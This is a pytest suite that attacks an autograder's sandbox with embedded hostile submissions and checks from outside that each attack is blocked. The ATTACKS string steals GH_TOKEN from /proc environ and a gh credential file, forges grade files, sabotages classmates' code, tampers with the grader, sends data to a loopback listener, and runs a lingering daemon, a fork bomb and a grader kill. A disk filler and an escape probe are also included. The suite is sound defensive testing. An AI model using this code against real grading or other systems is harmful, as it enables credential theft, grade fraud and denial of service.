"""The sandbox, attacked: a hostile class through grade-all, and single attacks through grade.

Every claim is checked from outside: the files the attack aimed at are
unchanged, the secrets are in no file and no output, the loopback listener
got no connection, and no process of the submission is left.  Each attack
runs under bubblewrap and under the Landlock + seccomp fallback, forced with
AUTOGRADER_SANDBOX, and the reports must name the mechanism that ran.
"""
import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time

import pytest

from autograder import rubric, sandbox
from autograder.grading.engine import grade
from support.submissions import build_submission
from support import ROOT

pytestmark = pytest.mark.slow

MECHANISMS = ["bwrap", "landlock"]
SECRET = "ghp_secretTOKEN4242"
HOME_SECRET = "oauth_token: gho_homeSECRET99"


def _tree_digest(folder):
    """sha256 of every file's path and bytes under ``folder`` (links by their target).

    Python's byte-code and hypothesis's caches are left out: the grader's own processes write them.
    """
    paths = []
    for root, dirs, files in os.walk(folder):
        dirs[:] = [d for d in dirs if d not in ("__pycache__", ".hypothesis")]
        paths += [os.path.join(root, name) for name in files]
    digest = hashlib.sha256()
    for path in sorted(paths):
        digest.update(os.path.relpath(path, folder).encode() + b"\0")
        if os.path.islink(path):
            digest.update(os.readlink(path).encode())
        else:
            with open(path, "rb") as f:
                digest.update(f.read())
    return digest.hexdigest()


def _files_containing(folder, needle):
    found = []
    for root, _, files in os.walk(folder):
        for name in files:
            path = os.path.join(root, name)
            try:
                with open(path, "rb") as f:
                    if needle.encode() in f.read():
                        found.append(path)
            except OSError:
                pass
    return found


def _processes_named(marker):
    """Processes whose name or command line contains ``marker``."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read()
            with open(f"/proc/{pid}/comm", "rb") as f:
                comm = f.read()
        except OSError:
            continue
        if marker.encode() in cmdline or marker.encode() in comm:
            found.append(int(pid))
    return found


def _descendants(root):
    """Every process below ``root`` (children, grandchildren, ...)."""
    parents = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/stat") as f:
                stat = f.read()
        except OSError:
            continue
        parents[int(pid)] = int(stat[stat.rfind(")") + 2:].split()[1])
    found, frontier = [], [root]
    while frontier:
        children = [pid for pid, ppid in parents.items() if ppid in frontier]
        found += children
        frontier = children
    return found


def _grading_workers(root):
    """The processes below ``root`` that run a grading worker (the sandbox's self-test excluded)."""
    found = []
    for pid in _descendants(root):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                command = f.read()
        except OSError:
            continue
        if b"worker_main" in command and b'"selftest"' not in command:
            found.append(pid)
    return found


class Listener:
    """A TCP listener on loopback that counts connections (and what they sent)."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections, self.received = 0, b""
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(1)
            try:
                self.received += conn.recv(4096)
            except OSError:
                pass
            conn.close()

    def close(self):
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


ATTACKS = '''
import os as _os, sys as _sys, json as _json, socket as _socket, ctypes as _ctypes
_T = {targets!r}
_log = []

def _try(label, fn):
    try:
        _log.append((label, "DID", str(fn())[:80]))
    except BaseException as err:
        _log.append((label, "blocked", type(err).__name__))

def _steal():
    found = []
    for pid in _os.listdir("/proc"):
        if pid.isdigit() and int(pid) != _os.getpid():
            try:
                with open(f"/proc/{{pid}}/environ", "rb") as f:
                    data = f.read()
                if b"GH_TOKEN" in data:
                    found.append(data.split(b"GH_TOKEN=")[1].split(b"\\0")[0].decode())
            except OSError:
                pass
    with open(_T["home_secret"]) as f:
        found.append(f.read())
    return found

def _write(path, text):
    with open(path, "w") as f:
        f.write(text)
    return path

def _forge():
    for pid in _os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{{pid}}/cmdline", "rb") as f:
                    args = f.read().split(b"\\0")
            except OSError:
                continue
            if b"--results" in args:    # the grader's results file, in the old spelling or --report's
                _write(args[args.index(b"--results") + 1].decode(), '{{"score": 1000, "tests": []}}')
            for arg in args:
                if arg.startswith((b"gradescope=", b"result=")):
                    try:
                        _write(arg.split(b"=", 1)[1].decode(), '{{"score": 1000, "tests": []}}')
                    except OSError:
                        pass
    _write(_T["results"], '{{"score": 1000, "tests": []}}')
    _write(_T["stored"], '{{"schema": "lab6-autograder/result", "version": 1, "total": 1000, "checks": []}}')
    return _write(_T["grades"], "student,score\\nmallory,1000\\n")

def _sabotage():
    for path in _T["classmates"]:
        with open(path, "a") as f:
            f.write("\\ndef kl_divergence(*a, **k):\\n    raise RuntimeError('sabotaged')\\n")
    return "classmates"

def _tamper():
    for path in _T["grader_files"]:
        with open(path, "a") as f:
            f.write("\\n# tampered\\n")
    return "grader"

def _connect():
    s = _socket.create_connection(("127.0.0.1", _T["port"]), timeout=2)
    s.sendall(("stolen:" + repr(_stolen)).encode())
    s.close()
    return "connected"

def _daemon():
    # Double fork + setsid: a process that outlives killpg and holds the output pipes.
    pid = _os.fork()
    if pid == 0:
        _os.setsid()
        if _os.fork() == 0:
            _ctypes.CDLL(None).prctl(15, b"mallory-daemon", 0, 0, 0)
            import time as _time
            end = _time.time() + 90
            while _time.time() < end:
                for fn in (_forge, _sabotage, _tamper):
                    try:
                        fn()
                    except BaseException:
                        pass
                _time.sleep(0.05)
        _os._exit(0)
    return "daemon started"

def _fork_bomb():
    children = []
    for _ in range(5000):
        pid = _os.fork()
        if pid == 0:
            import time as _time
            _time.sleep(60)
            _os._exit(0)
        children.append(pid)
    return len(children)

def _kill_grader():
    _os.kill(_os.getppid(), 9)
    return "killed the grader"

_stolen = []
_try("steal", lambda: _stolen.extend(_steal()) or _stolen)
_try("forge", _forge)
_try("sabotage", _sabotage)
_try("tamper", _tamper)
_try("connect", _connect)
_try("daemon", _daemon)
_try("fork bomb", _fork_bomb)
_try("kill grader", _kill_grader)
_try("write /tmp", lambda: _write(_T["tmp_drop"], repr(_stolen)))
print("ATTACKS", _json.dumps(_log), "STOLEN", _stolen)
'''

DISK_FILLER = '''
import os as _os
_n = 0
try:
    while _n < 200000:
        with open(f"fill-{_n}.bin", "wb") as _f:
            _f.write(b"x" * 4096)
        _n += 1
except OSError as _err:
    print("stopped after", _n, "files:", _err)
'''


@pytest.fixture
def hostile_class(tmp_path):
    """A copy of the grader, a class of four, a home with a secret, a listener."""
    grader = tmp_path / "grader"
    shutil.copytree(ROOT / "autograder", grader / "autograder",
                    ignore=shutil.ignore_patterns("__pycache__", "audit"))
    shutil.copy(ROOT / "grading.yml", grader / "grading.yml")
    home = tmp_path / "home"
    (home / ".config" / "gh").mkdir(parents=True)
    (home / ".config" / "gh" / "hosts.yml").write_text(HOME_SECRET + "\n")
    subs, out = tmp_path / "submissions", tmp_path / "out"
    for name in ("alice", "bob"):
        build_submission(subs / name)
    listener = Listener()
    targets = {
        "results": str(out / "students" / "mallory" / "results.json"),
        "stored": str(out / "students" / "mallory" / "autograder-result.json"),
        "grades": str(out / "grades.csv"),
        "classmates": [str(subs / name / "lab6_generative" / "vae.py") for name in ("alice", "bob")],
        "grader_files": [str(grader / "grading.yml"), str(grader / "autograder" / "grading" / "engine.py")],
        "home_secret": str(home / ".config" / "gh" / "hosts.yml"),
        "port": listener.port,
        "tmp_drop": str(tmp_path / "stolen.txt"),
    }
    build_submission(subs / "mallory", module_code={"vae": ATTACKS.format(targets=targets)})
    build_submission(subs / "trudy", module_code={"schedules": DISK_FILLER})
    yield {"grader": grader, "home": home, "subs": subs, "out": out, "listener": listener, "tmp": tmp_path}
    listener.close()


@pytest.mark.parametrize("mechanism", MECHANISMS)
def test_a_hostile_class_gets_exactly_what_its_code_earns(hostile_class, mechanism):
    c = hostile_class
    before = {"grader": _tree_digest(c["grader"]),
              **{name: _tree_digest(c["subs"] / name) for name in ("alice", "bob")}}
    env = {"PATH": os.environ["PATH"], "HOME": str(c["home"]), "GH_TOKEN": SECRET, "LANG": "C.UTF-8",
           "AUTOGRADER_SANDBOX": mechanism}
    started = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade-all", str(c["subs"]), "--out", str(c["out"]),
                           "--jobs", "2"], cwd=c["grader"], env=env, capture_output=True, text=True, timeout=600)
    seconds = time.monotonic() - started
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert seconds < 120, f"grade-all took {seconds:.0f} s"

    with open(c["out"] / "grades.csv", newline="") as f:
        grades = {row["student"]: row for row in csv.DictReader(f)}
    assert {name: grades[name]["score"] for name in grades} == {
        "alice": "100", "bob": "100", "mallory": "100", "trudy": "0"}
    assert {row["isolation"] for row in grades.values()} == {mechanism}
    results = json.loads((c["out"] / "students" / "mallory" / "results.json").read_text())
    assert results["score"] == 100 and len(results["tests"]) > 7
    assert results["extra_data"] == {"isolation": mechanism}
    attacks = dict((label, did) for label, did, _ in json.loads(
        results["output"].split("ATTACKS ", 1)[1].split(" STOLEN", 1)[0]))
    assert set(attacks.values()) == {"blocked"}, attacks
    trudy = json.loads((c["out"] / "students" / "trudy" / "results.json").read_text())
    assert "scratch folder" in json.dumps(trudy) or "No space" in json.dumps(trudy) or \
        "stopped after" in trudy["output"]

    # From outside: nothing changed, nothing leaked, nobody connected, nothing left running.
    assert _tree_digest(c["grader"]) == before["grader"]
    for name in ("alice", "bob"):
        assert _tree_digest(c["subs"] / name) == before[name]
    written = sorted(os.path.relpath(os.path.join(r, f), c["out"]) for r, _, fs in os.walk(c["out"]) for f in fs)
    assert written == sorted(["grades.csv", "report.md", "scores.png", "checks.png"] + [
        f"students/{n}/{f}" for n in ("alice", "bob", "mallory", "trudy")
        for f in ("autograder-result.json", "results.json", "source.sha256")])
    for secret in (SECRET, HOME_SECRET):
        assert not _files_containing(c["out"], secret) and not _files_containing(c["subs"], secret)
        assert secret not in proc.stdout + proc.stderr
    assert not (c["tmp"] / "stolen.txt").exists()
    assert c["listener"].connections == 0
    assert _processes_named("mallory") == []
    assert "isolation" in (c["out"] / "report.md").read_text().lower()


def test_grade_all_refuses_to_run_unsandboxed_unless_told(tmp_path):
    build_submission(tmp_path / "subs" / "alice")
    env = dict(os.environ, AUTOGRADER_SANDBOX="none")
    refused = subprocess.run([sys.executable, "-m", "autograder", "grade-all", str(tmp_path / "subs"), "--out",
                              str(tmp_path / "out")], cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert refused.returncode == 2 and "--allow-unsandboxed" in refused.stderr
    assert "Traceback" not in refused.stderr and not (tmp_path / "out").exists()
    allowed = subprocess.run([sys.executable, "-m", "autograder", "grade-all", str(tmp_path / "subs"), "--out",
                              str(tmp_path / "out"), "--allow-unsandboxed"], cwd=ROOT, env=env,
                             capture_output=True, text=True, timeout=300)
    assert allowed.returncode == 0, allowed.stderr
    with open(tmp_path / "out" / "grades.csv", newline="") as f:
        assert [row["isolation"] for row in csv.DictReader(f)] == ["none"]
    results = json.loads((tmp_path / "out" / "students" / "alice" / "results.json").read_text())
    assert "NOT SANDBOXED" in results["output"] and results["extra_data"]["isolation"] == "none"


PROBE_WORLD = '''
import os as _os, socket as _socket
_seen = {{}}
def _check(label, fn):
    try:
        fn()
        _seen[label] = "open"
    except OSError as err:
        _seen[label] = type(err).__name__
_check("secret file", lambda: open({secret!r}).read())
_check("grader rubric", lambda: open({rubric!r}).read())
_check("grader checks", lambda: open({checks!r}).read())
_check("tcp", lambda: _socket.create_connection(("127.0.0.1", {port}), timeout=2))
_check("udp", lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM))
_check("fork", lambda: _os.waitpid(_os.fork() or _os._exit(0), 0))
_check("signal grader", lambda: _os.kill({grader_pid}, 0))
_check("grader environ", lambda: open("/proc/{grader_pid}/environ").read())
_check("write outside", lambda: open({outside!r}, "w").write("x"))
_check("write scratch", lambda: open("scratch-file", "w").write("x"))
print("SEEN", sorted(_seen.items()))
'''


@pytest.mark.parametrize("mechanism", MECHANISMS)
def test_inside_the_sandbox_only_the_scratch_folder_is_open(tmp_path, mechanism, monkeypatch):
    secret = tmp_path / "secret.txt"
    secret.write_text("top secret")
    listener = Listener()
    try:
        code = PROBE_WORLD.format(secret=str(secret), rubric=str(ROOT / "grading.yml"),
                                  checks=str(ROOT / "autograder" / "checks" / "test_kl_analytic.py"),
                                  port=listener.port, outside=str(tmp_path / "outside.txt"),
                                  grader_pid=os.getpid())
        submission = build_submission(tmp_path / "s", module_code={"schedules": code})
        result = grade(str(submission), only="warmup", isolation=mechanism)
    finally:
        listener.close()
    assert result.isolation == mechanism and result.score == 15
    seen = dict(eval(result.output.split("SEEN ", 1)[1].strip()))  # our own test's printout
    assert seen.pop("write scratch") == "open"
    assert all(outcome != "open" for outcome in seen.values()), seen
    assert listener.connections == 0 and not (tmp_path / "outside.txt").exists()


DAEMON = '''
import os as _os, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        import ctypes as _ctypes
        _ctypes.CDLL(None).prctl(15, b"pipe-holder", 0, 0, 0)
        _time.sleep(120)   # holds stdout and stderr open
    _os._exit(0)
'''


def test_unsandboxed_a_daemon_holding_the_pipes_neither_stalls_nor_survives_grading(tmp_path):
    """Even without a sandbox: the output threads never block, and the sweep kills adopted orphans."""
    submission = build_submission(tmp_path / "s", module_code={"schedules": DAEMON})
    started = time.monotonic()
    result = grade(str(submission), only="warmup", isolation="none")
    assert result.score == 15 and time.monotonic() - started < 30
    assert _processes_named("pipe-holder") == []


def test_the_scratch_folder_has_a_size_limit(tmp_path):
    rubric_file = tmp_path / "grading.yml"
    text = (ROOT / "grading.yml").read_text().replace("file_mb: 64", "file_mb: 64\n  scratch_mb: 8")
    rubric_file.write_text(text)
    submission = build_submission(tmp_path / "s", bodies={"kl_warmup": textwrap.dedent('''\
        for i in range(100):
            with open(f"big-{i}", "wb") as f:
                f.write(b"x" * 2**20)
        import time
        time.sleep(5)
        return 0.0
        ''')})
    result = grade(str(submission), rubric.load(str(rubric_file)), only="warmup")
    assert result.score == 0
    assert "scratch folder" in result.tests[0].message and "the limit is 8 MB" in result.tests[0].message


def test_asking_for_a_sandbox_by_a_wrong_name_is_one_line(tmp_path):
    env = dict(os.environ, AUTOGRADER_SANDBOX="docker")
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", "solutions"], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1 and "unknown sandbox 'docker'" in proc.stderr


def test_doctor_says_what_works_here():
    proc = subprocess.run([sys.executable, "-m", "autograder", "doctor"], cwd=ROOT, capture_output=True,
                          text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    for mechanism in sandbox.MECHANISMS:
        assert mechanism in proc.stdout
    assert "grading here uses: bwrap" in proc.stdout  # this project's machines support it


@pytest.mark.parametrize("mechanism", MECHANISMS + ["none"])
def test_killing_the_grade_process_leaves_no_worker_behind(tmp_path, mechanism):
    submission = build_submission(tmp_path / "s", bodies={"kl_warmup": "import time\ntime.sleep(600)\n"})
    marker = str(submission)
    # A grader killed with SIGKILL cannot remove its worker's box: it is left in this test's folder.
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    proc = subprocess.Popen([sys.executable, "-m", "autograder", "grade", str(submission), "--only", "warmup",
                             "--report", "gradescope=" + str(tmp_path / "r.json"), "--sandbox", mechanism],
                            cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            env=dict(os.environ, TMPDIR=str(scratch)))
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not _grading_workers(proc.pid):  # not the sandbox's self-test
        time.sleep(0.1)
    time.sleep(3)  # the worker is in the student's sleep now
    workers = _descendants(proc.pid)
    assert _grading_workers(proc.pid), "the worker never started"
    proc.kill()
    proc.wait()
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and any(_running(pid) for pid in workers):
        time.sleep(0.05)
    assert not [pid for pid in workers if _running(pid)], marker


def _running(pid):
    """Whether ``pid`` is a live process: a zombie is dead (and reaped here if this process adopted it,
    as a child subreaper since an earlier test called the engine)."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            stat = f.read()
    except OSError:
        return False
    if stat[stat.rfind(")") + 2:].split()[0] == "Z":
        try:
            os.waitpid(pid, os.WNOHANG)
        except ChildProcessError:
            pass
        return False
    return True
